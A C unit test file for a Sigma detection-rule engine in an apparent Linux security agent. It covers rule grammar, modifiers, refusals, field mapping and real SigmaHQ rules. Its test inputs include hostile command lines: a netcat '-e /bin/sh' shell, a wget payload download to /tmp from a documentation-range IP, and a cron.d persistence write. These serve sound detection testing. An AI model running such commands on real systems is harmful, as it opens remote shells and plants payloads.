/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Sigma support (collector/sigma_*.c): the condition grammar, the value
 * modifiers, the field mapping from our records, refusals named with
 * their reason, and the real SigmaHQ linux rules in ../shared/sigma
 * (loaded and counted per category, and some fired on the activity they
 * describe).
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "sigma_testutil.h"
#include "sigma_impl.h"

/* --- helpers -------------------------------------------------------------- */

static struct sigma_rule *load(const char *cat, const char *detection)
{
	char text[8192];

	snprintf(text, sizeof(text),
		 "title: t\nid: 11111111-2222-3333-4444-555555555555\nlevel: high\n"
		 "logsource:\n  product: linux\n  category: %s\ndetection:\n%s", cat, detection);
	return tu_sigma_rule(text);
}

/* Load expecting a refusal whose reason contains want. */
static void refused(const char *text, const char *want)
{
	char reason[SIGMA_REASON_MAX];
	struct sigma_rule *r = NULL;
	enum sigma_category c;

	assert_int_equal(sigma_rule_load(text, strlen(text), "x.yml", &r, &c, reason), 1);
	assert_null(r);
	if (!strstr(reason, want))
		fail_msg("reason '%s' does not say '%s'", reason, want);
}

static void refused_det(const char *detection, const char *want)
{
	char text[8192];

	snprintf(text, sizeof(text),
		 "title: t\nlogsource:\n  product: linux\n  category: process_creation\n"
		 "detection:\n%s", detection);
	refused(text, want);
}

static struct sigma_event proc_ev(const char *image, const char *cmd)
{
	struct sigma_event ev = { .cat = SIGMA_CAT_PROCESS_CREATION };

	ev.f[SIGMA_F_IMAGE] = image;
	ev.f[SIGMA_F_COMMANDLINE] = cmd;
	return ev;
}

static int fires(const struct sigma_rule *r, const char *image, const char *cmd)
{
	struct sigma_event ev = proc_ev(image, cmd);

	return sigma_rule_match(r, &ev);
}

/* --- condition grammar ---------------------------------------------------- */

#define SELS "  sel_a:\n    Image: a\n  sel_b:\n    Image: b\n  filter_c:\n    CommandLine: c\n"

static void test_cond_precedence(void **state)
{
	/* and binds tighter than or; not tighter than and */
	struct sigma_rule *r = load("process_creation",
				    SELS "  condition: sel_a or sel_b and not filter_c\n");
	(void)state;
	assert_true(fires(r, "a", "c"));	/* sel_a alone */
	assert_true(fires(r, "b", "x"));
	assert_false(fires(r, "b", "c"));
	assert_false(fires(r, "z", "x"));
	sigma_rule_free(r);
	r = load("process_creation", SELS "  condition: (sel_a or sel_b) and not filter_c\n");
	assert_false(fires(r, "a", "c"));
	assert_true(fires(r, "a", "x"));
	sigma_rule_free(r);
	r = load("process_creation", SELS "  condition: not (sel_a or sel_b)\n");
	assert_true(fires(r, "z", "x"));
	assert_false(fires(r, "b", "x"));
	sigma_rule_free(r);
}

static void test_cond_quantifiers(void **state)
{
	struct sigma_rule *r;

	(void)state;
	r = load("process_creation", SELS "  condition: 1 of sel_*\n");
	assert_true(fires(r, "b", ""));
	assert_false(fires(r, "z", "c"));
	sigma_rule_free(r);
	r = load("process_creation", SELS "  condition: all of sel_*\n");
	assert_false(fires(r, "a", ""));	/* Image cannot be both */
	sigma_rule_free(r);
	r = load("process_creation", SELS "  condition: 1 of them\n");
	assert_true(fires(r, "z", "c"));
	assert_false(fires(r, "z", "d"));
	sigma_rule_free(r);
	r = load("process_creation", SELS "  condition: all of them\n");
	assert_false(fires(r, "a", "c"));
	sigma_rule_free(r);
	r = load("process_creation", SELS "  condition: sel_a and all of filter*\n");
	assert_true(fires(r, "a", "c"));
	assert_false(fires(r, "a", "x"));
	sigma_rule_free(r);
	/* a list of conditions: any one */
	r = load("process_creation", SELS "  condition:\n    - sel_a\n    - sel_b\n");
	assert_true(fires(r, "b", ""));
	assert_false(fires(r, "c", ""));
	sigma_rule_free(r);
}

static void test_cond_errors(void **state)
{
	char deep[512], det[1024];

	(void)state;
	refused_det(SELS "  condition: sel_a and\n", "expected a selection name");
	refused_det(SELS "  condition: (sel_a or sel_b\n", "expected ')'");
	refused_det(SELS "  condition: sel_x\n", "no selection of the rule");
	refused_det(SELS "  condition: 1 of nothing_*\n", "matching no selection");
	refused_det(SELS "  condition: sel_a | count() > 5\n", "aggregations");
	refused_det(SELS "  condition: sel_a sel_b\n", "unexpected text");
	refused_det(SELS "  condition: 1 sel_a\n", "expected 'of'");
	refused_det(SELS, "no condition");
	memset(deep, 0, sizeof(deep));
	for (int i = 0; i < 40; i++)
		strcat(deep, "(");
	strcat(deep, "sel_a");
	for (int i = 0; i < 40; i++)
		strcat(deep, ")");
	snprintf(det, sizeof(det), SELS "  condition: %s\n", deep);
	refused_det(det, "nested deeper than 32");
}

/* --- modifiers ------------------------------------------------------------ */

static void test_modifiers_strings(void **state)
{
	struct sigma_rule *r;

	(void)state;
	r = load("process_creation", "  s:\n    CommandLine|contains|all:\n      - ' -e '\n"
				     "      - '/BIN/SH'\n  condition: s\n");
	assert_true(fires(r, "", "nc -e /bin/sh 10.0.0.1"));	/* case-insensitive */
	assert_false(fires(r, "", "nc -e /bin/bash"));
	sigma_rule_free(r);
	r = load("process_creation", "  s:\n    Image|startswith: /tmp/\n    Image|endswith:\n"
				     "      - .sh\n      - .py\n  condition: s\n");
	assert_true(fires(r, "/tmp/x.py", ""));
	assert_false(fires(r, "/var/tmp/x.py", ""));
	assert_false(fires(r, "/tmp/x.pl", ""));
	sigma_rule_free(r);
	/* wildcards, an escaped star, and exact match otherwise */
	r = load("process_creation", "  s:\n    CommandLine:\n      - 'a?c*z'\n      - 'lit\\*'\n"
				     "  condition: s\n");
	assert_true(fires(r, "", "abcxxz"));
	assert_false(fires(r, "", "abcxx"));
	assert_true(fires(r, "", "lit*"));
	assert_false(fires(r, "", "litx"));
	sigma_rule_free(r);
	/* null: the field is absent */
	r = load("process_creation", "  s:\n    ParentImage: null\n  condition: s\n");
	assert_true(fires(r, "", ""));
	sigma_rule_free(r);
}

static void test_modifiers_re(void **state)
{
	struct sigma_rule *r;

	(void)state;
	r = load("process_creation", "  s:\n    CommandLine|re: '\\s-O\\s'\n  condition: s\n");
	assert_true(fires(r, "", "wget -O /tmp/x"));
	assert_false(fires(r, "", "wget -o /tmp/x"));	/* case-sensitive */
	sigma_rule_free(r);
	r = load("process_creation", "  s:\n    CommandLine|re|i: '^WGET [\\d]{2}'\n  condition: s\n");
	assert_true(fires(r, "", "wget 42"));
	assert_false(fires(r, "", "wget x42"));
	sigma_rule_free(r);
	refused_det("  s:\n    CommandLine|re: 'a(?=b)'\n  condition: s\n", "not POSIX");
	refused_det("  s:\n    CommandLine|re: 'a.*?b'\n  condition: s\n", "lazy");
	refused_det("  s:\n    CommandLine|re: '\\bword'\n  condition: s\n", "no POSIX ERE");
	refused_det("  s:\n    CommandLine|re: 'a(b'\n  condition: s\n", "does not compile");
	refused_det("  s:\n    CommandLine|re|m: 'a'\n  condition: s\n", "modifier 'm'");
}

static void test_modifiers_cidr(void **state)
{
	struct sigma_rule *r = load("network_connection",
				    "  s:\n    DestinationIp|cidr:\n      - 10.0.0.0/8\n"
				    "      - 'fd00::/8'\n      - 192.168.1.7\n  condition: s\n");
	struct sigma_event ev = { .cat = SIGMA_CAT_NETWORK_CONNECTION };
	static const char *const yes[] = { "10.1.2.3", "fd12::1", "192.168.1.7" };
	static const char *const no[] = { "11.0.0.1", "fe80::1", "192.168.1.8", "junk" };

	(void)state;
	for (size_t i = 0; i < 3; i++) {
		ev.f[SIGMA_F_DESTINATIONIP] = yes[i];
		assert_true(sigma_rule_match(r, &ev));
	}
	for (size_t i = 0; i < 4; i++) {
		ev.f[SIGMA_F_DESTINATIONIP] = no[i];
		assert_false(sigma_rule_match(r, &ev));
	}
	ev.cat = SIGMA_CAT_PROCESS_CREATION;	/* another category never matches */
	ev.f[SIGMA_F_DESTINATIONIP] = yes[0];
	assert_false(sigma_rule_match(r, &ev));
	sigma_rule_free(r);
	refused_det("  s:\n    CommandLine|cidr: 10.0.0.0/33\n  condition: s\n", "not a CIDR");
}

static void test_modifiers_base64_windash(void **state)
{
	struct sigma_rule *r;

	(void)state;
	/* base64("curl") = "Y3VybA==" */
	r = load("process_creation", "  s:\n    CommandLine|base64|contains: curl\n  condition: s\n");
	assert_true(fires(r, "", "echo Y3VybA== | base64 -d"));
	assert_false(fires(r, "", "echo curl"));
	sigma_rule_free(r);
	/* "curl" at offsets 0, 1, 2 of an encoded text */
	r = load("process_creation",
		 "  s:\n    CommandLine|base64offset|contains: curl\n  condition: s\n");
	assert_true(fires(r, "", "Y3VybCBodHRw"));	/* "curl http" */
	assert_true(fires(r, "", "eGN1cmwg"));		/* "xcurl " */
	assert_true(fires(r, "", "eHhjdXJsIA=="));	/* "xxcurl " */
	assert_false(fires(r, "", "d2dldA=="));		/* "wget" */
	sigma_rule_free(r);
	r = load("process_creation", "  s:\n    CommandLine|windash|contains: ' -enc '\n"
				     "  condition: s\n");
	assert_true(fires(r, "", "pwsh -enc AAA"));
	assert_true(fires(r, "", "pwsh /enc AAA"));
	assert_true(fires(r, "", "pwsh \xe2\x80\x93" "enc AAA"));
	assert_false(fires(r, "", "pwsh enc AAA"));
	sigma_rule_free(r);
}

/* --- refusals ------------------------------------------------------------- */

static void test_refusals_named(void **state)
{
	(void)state;
	refused("title: t\nlogsource:\n  product: windows\n  category: process_creation\n"
		"detection:\n  s:\n    Image: a\n  condition: s\n", "product 'windows'");
	refused("title: t\nlogsource:\n  product: linux\n  service: auditd\n"
		"detection:\n  s:\n    type: EXECVE\n  condition: s\n", "'auditd' is not supported");
	refused("title: t\nlogsource:\n  product: linux\n  category: dns_query\n"
		"detection:\n  s:\n    Image: a\n  condition: s\n", "'dns_query' is not supported");
	refused_det("  s:\n    Hashes|contains: abc\n  condition: s\n", "field 'Hashes'");
	refused_det("  s:\n    Image|gt: 3\n  condition: s\n", "modifier 'gt'");
	refused_det("  s:\n    - evil\n    - worse\n  condition: s\n", "keyword search");
	refused_det("  s:\n    Image|re|contains: a\n  condition: s\n", "do not combine");
	refused("title: t\nlogsource:\n  product: linux\n  category: network_connection\n"
		"detection:\n  s:\n    DestinationHostname: a.example\n  condition: s\n",
		"not the names");
	refused("title: t\n---\ntitle: u\n", "multi-document");
	refused("title: [unclosed\n", "YAML error");
	refused("- a list\n", "not a YAML map");
}

static void test_metadata(void **state)
{
	char text[] = "title: Custom\nid: abc\nlevel: critical\ncustos_taxonomy: malicious-code\n"
		      "logsource:\n  product: linux\n  category: file_event\n"
		      "detection:\n  s:\n    TargetFilename|startswith: /etc/cron.d/\n"
		      "  condition: s\n";
	char reason[SIGMA_REASON_MAX];
	struct sigma_rule *r;
	enum sigma_category c;

	(void)state;
	assert_int_equal(sigma_rule_load(text, strlen(text), "m.yml", &r, &c, reason), 0);
	assert_string_equal(sigma_rule_title(r), "Custom");
	assert_string_equal(sigma_rule_id(r), "abc");
	assert_int_equal(sigma_rule_level(r), SIGMA_LEVEL_CRITICAL);
	assert_int_equal(sigma_rule_category(r), SIGMA_CAT_FILE_EVENT);
	assert_string_equal(sigma_rule_custom(r, "custos_taxonomy"), "malicious-code");
	assert_string_equal(sigma_rule_custom(r, "absent"), "");
	sigma_rule_free(r);
}

/* --- field mapping -------------------------------------------------------- */

static void exec_rec(struct custos_record *r, const char *exe, const char *argv, size_t argv_len)
{
	memset(r, 0, sizeof(*r));
	r->kind = CUSTOS_REC_EXEC;
	tu_subject(&r->subj, 4242);
	record_set_bytes(r->u.exec.exe, &r->u.exec.exe_len, CUSTOS_PATH_MAX, exe);
	record_set_bytes(r->u.exec.cwd, &r->u.exec.cwd_len, CUSTOS_PATH_MAX, "/home/u");
	memcpy(r->u.exec.argv, argv, argv_len);
	r->u.exec.argv_len = (uint32_t)argv_len;
}

static void file_rec(struct custos_record *r, uint64_t kind, const char *path, const char *path2,
		     uint64_t flags)
{
	memset(r, 0, sizeof(*r));
	r->kind = kind;
	tu_subject(&r->subj, 4242);
	record_set_bytes(r->u.file.path, &r->u.file.path_len, CUSTOS_PATH_MAX, path);
	if (path2)
		record_set_bytes(r->u.file.path2, &r->u.file.path2_len, CUSTOS_PATH_MAX, path2);
	r->u.file.flags = flags;
}

static void net_rec(struct custos_record *r, uint64_t kind, const char *remote, uint64_t port)
{
	memset(r, 0, sizeof(*r));
	r->kind = kind;
	tu_subject(&r->subj, 4242);
	r->u.net.family = AF_INET;
	assert_int_equal(inet_pton(AF_INET, remote, r->u.net.remote_addr), 1);
	r->u.net.remote_addr_len = 4;
	r->u.net.remote_port = port;
	assert_int_equal(inet_pton(AF_INET, "192.0.2.5", r->u.net.local_addr), 1);
	r->u.net.local_addr_len = 4;
	r->u.net.local_port = 50000;
}

static void test_mapping(void **state)
{
	static const char argv[] = "/usr/bin/wget\0-O\0/tmp/x\0";
	struct custos_record *r = malloc(sizeof(*r));
	struct sigma_event_buf *b = malloc(sizeof(*b));
	struct sigma_parent par = { "/bin/bash", "bash -i" };
	struct sigma_event ev;

	(void)state;
	assert_non_null(r);
	assert_non_null(b);
	exec_rec(r, "/usr/bin/wget", argv, sizeof(argv) - 1);
	r->subj.uid = 0;
	assert_int_equal(sigma_event_from_record(r, &par, NULL, &ev, b), 1);
	assert_int_equal(ev.cat, SIGMA_CAT_PROCESS_CREATION);
	assert_string_equal(ev.f[SIGMA_F_IMAGE], "/usr/bin/wget");
	assert_string_equal(ev.f[SIGMA_F_COMMANDLINE], "/usr/bin/wget -O /tmp/x");
	assert_string_equal(ev.f[SIGMA_F_CURRENTDIRECTORY], "/home/u");
	assert_string_equal(ev.f[SIGMA_F_PARENTIMAGE], "/bin/bash");
	assert_string_equal(ev.f[SIGMA_F_PARENTCOMMANDLINE], "bash -i");
	assert_string_equal(ev.f[SIGMA_F_USER], "root");
	assert_string_equal(ev.f[SIGMA_F_LOGONID], "1000");
	assert_string_equal(ev.f[SIGMA_F_PROCESSID], "4242");
	assert_null(ev.f[SIGMA_F_TARGETFILENAME]);
	r->u.exec.result = -2;		/* a failed exec created nothing */
	assert_int_equal(sigma_event_from_record(r, &par, NULL, &ev, b), 0);

	file_rec(r, CUSTOS_REC_OPEN, "/etc/cron.d/job", NULL, O_WRONLY | O_CREAT);
	assert_int_equal(sigma_event_from_record(r, NULL, "/usr/bin/tee", &ev, b), 1);
	assert_int_equal(ev.cat, SIGMA_CAT_FILE_EVENT);
	assert_string_equal(ev.f[SIGMA_F_TARGETFILENAME], "/etc/cron.d/job");
	assert_string_equal(ev.f[SIGMA_F_IMAGE], "/usr/bin/tee");
	assert_string_equal(ev.f[SIGMA_F_USER], "1000");
	file_rec(r, CUSTOS_REC_OPEN, "/etc/cron.d/job", NULL, O_RDONLY);
	assert_int_equal(sigma_event_from_record(r, NULL, NULL, &ev, b), 0);
	file_rec(r, CUSTOS_REC_RENAME, "/tmp/a", "/etc/sudoers.d/x", 0);
	assert_int_equal(sigma_event_from_record(r, NULL, NULL, &ev, b), 1);
	assert_string_equal(ev.f[SIGMA_F_TARGETFILENAME], "/etc/sudoers.d/x");
	file_rec(r, CUSTOS_REC_UNLINK, "/etc/cron.d/job", NULL, 0);
	assert_int_equal(sigma_event_from_record(r, NULL, NULL, &ev, b), 0);

	net_rec(r, CUSTOS_REC_CONNECT, "10.0.0.1", 4444);
	assert_int_equal(sigma_event_from_record(r, NULL, "/bin/bash", &ev, b), 1);
	assert_int_equal(ev.cat, SIGMA_CAT_NETWORK_CONNECTION);
	assert_string_equal(ev.f[SIGMA_F_DESTINATIONIP], "10.0.0.1");
	assert_string_equal(ev.f[SIGMA_F_DESTINATIONPORT], "4444");
	assert_string_equal(ev.f[SIGMA_F_SOURCEIP], "192.0.2.5");
	assert_string_equal(ev.f[SIGMA_F_INITIATED], "true");
	net_rec(r, CUSTOS_REC_ACCEPT, "10.0.0.1", 4444);
	assert_int_equal(sigma_event_from_record(r, NULL, NULL, &ev, b), 1);
	assert_string_equal(ev.f[SIGMA_F_SOURCEIP], "10.0.0.1");
	assert_string_equal(ev.f[SIGMA_F_DESTINATIONIP], "192.0.2.5");
	assert_string_equal(ev.f[SIGMA_F_INITIATED], "false");
	r->u.net.family = AF_UNIX;
	assert_int_equal(sigma_event_from_record(r, NULL, NULL, &ev, b), 0);
	free(r);
	free(b);
}

/* A socket record is our custos_socket category when it was created:
 * family and type by name, an AF_PACKET protocol in host order. */
static void test_mapping_socket(void **state)
{
	struct custos_record *r = calloc(1, sizeof(*r));
	struct sigma_event_buf *b = malloc(sizeof(*b));
	struct sigma_event ev;

	(void)state;
	assert_non_null(r);
	assert_non_null(b);
	r->kind = CUSTOS_REC_SOCKET;
	tu_subject(&r->subj, 4242);
	r->u.net.result = 3;
	r->u.net.family = 17;		/* AF_PACKET */
	r->u.net.sock_type = 3;		/* SOCK_RAW */
	r->u.net.protocol = 768;	/* htons(ETH_P_ALL) */
	assert_int_equal(sigma_event_from_record(r, NULL, "/usr/bin/python3.11", &ev, b), 1);
	assert_int_equal(ev.cat, SIGMA_CAT_CUSTOS_SOCKET);
	assert_string_equal(ev.f[SIGMA_F_SOCKETFAMILY], "AF_PACKET");
	assert_string_equal(ev.f[SIGMA_F_SOCKETTYPE], "SOCK_RAW");
	assert_string_equal(ev.f[SIGMA_F_SOCKETPROTOCOL], "3");
	assert_string_equal(ev.f[SIGMA_F_IMAGE], "/usr/bin/python3.11");
	assert_string_equal(ev.f[SIGMA_F_PROCESSID], "4242");
	assert_null(ev.f[SIGMA_F_DESTINATIONIP]);
	r->u.net.family = 2;		/* AF_INET: the protocol as passed */
	r->u.net.protocol = 1;
	assert_int_equal(sigma_event_from_record(r, NULL, NULL, &ev, b), 1);
	assert_string_equal(ev.f[SIGMA_F_SOCKETFAMILY], "AF_INET");
	assert_string_equal(ev.f[SIGMA_F_SOCKETPROTOCOL], "1");
	r->u.net.family = 99;		/* unnamed: the number */
	r->u.net.sock_type = 12;
	assert_int_equal(sigma_event_from_record(r, NULL, NULL, &ev, b), 1);
	assert_string_equal(ev.f[SIGMA_F_SOCKETFAMILY], "99");
	assert_string_equal(ev.f[SIGMA_F_SOCKETTYPE], "12");
	r->u.net.result = -1;		/* refused (EPERM): created nothing */
	assert_int_equal(sigma_event_from_record(r, NULL, NULL, &ev, b), 0);
	assert_int_equal(ev.cat, SIGMA_CAT_OTHER);
	assert_int_equal(sigma_field_by_name("SocketFamily"), SIGMA_F_SOCKETFAMILY);
	assert_string_equal(sigma_category_name(SIGMA_CAT_CUSTOS_SOCKET), "custos_socket");
	free(r);
	free(b);
}

/* --- the real SigmaHQ rules ----------------------------------------------- */

static char sigma_dir[TU_SIGMA_DIR_MAX];

static void report(void *ctx, const char *path, enum sigma_category cat, const char *reason)
{
	(*(unsigned *)ctx)++;
	assert_true(reason[0] != '\0');
	print_message("refused %s [%s]: %s\n", path, sigma_category_name(cat), reason);
}

static const struct sigma_rule *find(const struct sigma_set *s, const char *id)
{
	for (size_t i = 0; i < s->n; i++)
		if (strcmp(sigma_rule_id(s->rules[i]), id) == 0)
			return s->rules[i];
	fail_msg("rule %s not loaded", id);
	return NULL;
}

static void test_sigmahq(void **state)
{
	struct sigma_set s;
	unsigned reported = 0, refused_total = 0;
	struct sigma_event ev = { .cat = SIGMA_CAT_NETWORK_CONNECTION };
	const struct sigma_rule *r;

	(void)state;
	if (!tu_have_sigma(sigma_dir))
		return;
	memset(&s, 0, sizeof(s));
	assert_int_equal(sigma_set_load_dir(&s, sigma_dir, report, &reported), 0);
	for (int c = 0; c <= SIGMA_CAT_OTHER; c++) {
		print_message("SigmaHQ %-18s loaded %3u refused %3u\n", sigma_category_name(c),
			      s.loaded[c], s.refused[c]);
		refused_total += s.refused[c];
	}
	assert_int_equal(reported, refused_total);	/* none skipped silently */
	assert_true(s.loaded[SIGMA_CAT_PROCESS_CREATION] >= 75);
	assert_true(s.loaded[SIGMA_CAT_FILE_EVENT] >= 7);
	assert_true(s.loaded[SIGMA_CAT_NETWORK_CONNECTION] >= 2);

	/* "Linux Reverse Shell Indicator": bash connecting out, not to loopback */
	r = find(&s, "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871");
	ev.f[SIGMA_F_IMAGE] = "/usr/bin/bash";
	ev.f[SIGMA_F_DESTINATIONIP] = "203.0.113.9";
	assert_true(sigma_rule_match(r, &ev));
	ev.f[SIGMA_F_DESTINATIONIP] = "127.0.0.1";
	assert_false(sigma_rule_match(r, &ev));
	sigma_set_free(&s);
}

/* Real rules on records built as our agent records the activity. */
static void test_sigmahq_records(void **state)
{
	static const char wget[] = "wget\0-O\0/tmp/payload\0http://203.0.113.9/p\0";
	static const char wget2[] = "wget\0-o\0/tmp/log\0http://203.0.113.9/p\0";
	struct custos_record *rec = malloc(sizeof(*rec));
	struct sigma_event_buf *b = malloc(sizeof(*b));
	const struct sigma_rule *dl, *cron;
	struct sigma_event ev;
	struct sigma_set s;

	(void)state;
	if (!tu_have_sigma(sigma_dir)) {
		free(rec);
		free(b);
		return;
	}
	memset(&s, 0, sizeof(s));
	assert_int_equal(sigma_set_load_dir(&s, sigma_dir, NULL, NULL), 0);
	/* proc_creation_lnx_wget_download_suspicious_directory.yml (re: \s-O\s)
	 * and file_event_lnx_susp_cron_file_created.yml */
	dl = find(&s, "cf610c15-ed71-46e1-bdf8-2bd1a99de6c4");
	cron = find(&s, "6c4e2f43-d94d-4ead-b64d-97e53fa2bd05");
	exec_rec(rec, "/usr/bin/wget", wget, sizeof(wget) - 1);
	assert_int_equal(sigma_event_from_record(rec, NULL, NULL, &ev, b), 1);
	assert_true(sigma_rule_match(dl, &ev));
	exec_rec(rec, "/usr/bin/wget", wget2, sizeof(wget2) - 1);
	assert_int_equal(sigma_event_from_record(rec, NULL, NULL, &ev, b), 1);
	assert_false(sigma_rule_match(dl, &ev));

	file_rec(rec, CUSTOS_REC_OPEN, "/etc/cron.d/evil", NULL, O_WRONLY | O_CREAT | O_TRUNC);
	assert_int_equal(sigma_event_from_record(rec, NULL, "/usr/bin/cp", &ev, b), 1);
	assert_true(sigma_rule_match(cron, &ev));
	file_rec(rec, CUSTOS_REC_OPEN, "/etc/cron.daily/apt", NULL, O_WRONLY | O_CREAT);
	assert_int_equal(sigma_event_from_record(rec, NULL, "/usr/bin/dpkg", &ev, b), 1);
	assert_false(sigma_rule_match(cron, &ev));	/* the rule's own filter */
	sigma_set_free(&s);
	free(rec);
	free(b);
}

/* The shapes compiled at load (plain, prefix, suffix, contains) give what
 * the general glob gives, on random patterns and strings over a small
 * alphabet (cases, escapes, wildcards inside and at the ends). */
static void test_glob_shapes(void **state)
{
	static const char *const ptok[] = { "a", "B", "b", "\\*", "\\?", "\\\\", "*", "?", "ab" };
	static const char stok[] = "aAbB*?\\c";
	unsigned long long seed = 0x9e3779b97f4a7c15ull;
	size_t shapes[SIGMA_G_CONTAINS + 1] = { 0 };

	(void)state;
	for (int round = 0; round < 200000; round++) {
		char pat[64] = "", s[16];
		size_t n, slen = SIZE_MAX;
		struct sigma_value v = { .kind = SIGMA_V_GLOB, .pat = pat };

		seed = seed * 6364136223846793005ull + 1442695040888963407ull;
		n = (seed >> 33) % 6;
		for (size_t i = 0; i < n; i++) {
			unsigned k = (unsigned)((seed >> (8 + 4 * i)) % 9);

			/* wildcards mostly at the ends, so every shape is common */
			if ((k == 6 || k == 7) && i > 0 && i + 1 < n && (seed >> 60) % 4)
				k = 0;
			strcat(pat, ptok[k]);
		}
		seed = seed * 6364136223846793005ull + 1442695040888963407ull;
		n = (seed >> 33) % 8;
		for (size_t i = 0; i < n; i++)
			s[i] = stok[(seed >> (3 * i)) % 8];
		s[n] = '\0';
		assert_int_equal(sigma_glob_compile(&v), 0);
		shapes[v.shape]++;
		assert_int_equal(sigma_value_glob(&v, s, &slen), sigma_glob(pat, s));
		free(v.lit);
	}
	for (int k = 0; k <= SIGMA_G_CONTAINS; k++)
		assert_true(shapes[k] > 1000);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cond_precedence),
		cmocka_unit_test(test_cond_quantifiers),
		cmocka_unit_test(test_cond_errors),
		cmocka_unit_test(test_modifiers_strings),
		cmocka_unit_test(test_glob_shapes),
		cmocka_unit_test(test_modifiers_re),
		cmocka_unit_test(test_modifiers_cidr),
		cmocka_unit_test(test_modifiers_base64_windash),
		cmocka_unit_test(test_refusals_named),
		cmocka_unit_test(test_metadata),
		cmocka_unit_test(test_mapping),
		cmocka_unit_test(test_mapping_socket),
		cmocka_unit_test(test_sigmahq),
		cmocka_unit_test(test_sigmahq_records),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
